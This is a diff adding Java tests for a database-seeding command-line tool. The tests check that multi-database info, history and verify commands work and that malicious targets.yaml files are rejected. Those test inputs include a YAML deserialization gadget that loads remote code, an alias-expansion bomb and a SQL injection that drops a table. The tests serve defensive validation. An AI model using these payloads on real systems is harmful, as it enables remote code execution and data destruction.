@@ -216,6 +216,46 @@ class FleetTest extends WithDatabase {
     }
 
     @Test
+    void info_history_and_verify_work_over_targets_too() {
+        var names = createDatabases("read", 2);
+        run(0, "--databases", pattern("read"));
+
+        var info = run(0, "info", "--databases", pattern("read"));
+        var history = run(0, "history", "--databases", pattern("read"));
+        var verify = run(0, "verify", "--databases", pattern("read"));
+
+        for (String name : names) {
+            assertTrue(info.out().contains(name + " (postgres@") && info.out().contains("prices.yaml"), info::toString);
+            assertTrue(history.out().contains(name + " (postgres@"), history::toString);
+        }
+        assertTrue(history.out().contains("prices.yaml"), history::toString);
+        assertTrue(verify.out().contains("2 targets in") && verify.out().contains("2 verified"), verify::toString);
+        assertEquals(0, db.count("SELECT count(*) FROM pg_database WHERE datname LIKE 'seed\\_verify\\_%'"), verify::toString);
+        var refused = run(2, "verify", "--databases", pattern("read"), "--database", "one_name");
+        assertTrue(refused.err().contains("each needs its own"), refused::toString);
+    }
+
+    @Test
+    void hostile_targets_files_are_refused_at_their_line() {
+        var names = createDatabases("hostile", 1);
+        var cases = Map.of(
+                "targets:\n  - !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n",
+                "targets.yaml:2",
+                "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\ntargets: [*c]\n", "targets.yaml",
+                "targets:\n  - {name: \"x'; DROP TABLE prices; --\", url: " + TestDatabase.urlFor(names.get(0)) + "}\n",
+                "is not a name",
+                "targets:\n  - {name: a, url: \"postgresql://h/${PART}x\"}\n", "the whole",
+                "targets: []\n", "one target or more");
+        for (var entry : cases.entrySet()) {
+            TestDatabase.write(workspace.resolve("targets.yaml"), entry.getKey());
+            var run = run("--targets", "targets.yaml");
+            assertTrue(run.exitCode() == 1 || run.exitCode() == 2, run::toString);
+            assertTrue(run.err().contains(entry.getValue()) && !run.err().contains("Exception"), run::toString);
+        }
+        assertEquals(0, count(names.get(0), "SELECT count(*) FROM pg_tables WHERE schemaname = 'public'"));
+    }
+
+    @Test
     void a_wrong_targets_file_or_pattern_is_refused_before_anything_is_written() {
         var names = createDatabases("bad", 1);
         TestDatabase.write(workspace.resolve("targets.yaml"), "targets:\n  - name: a\n    url: "
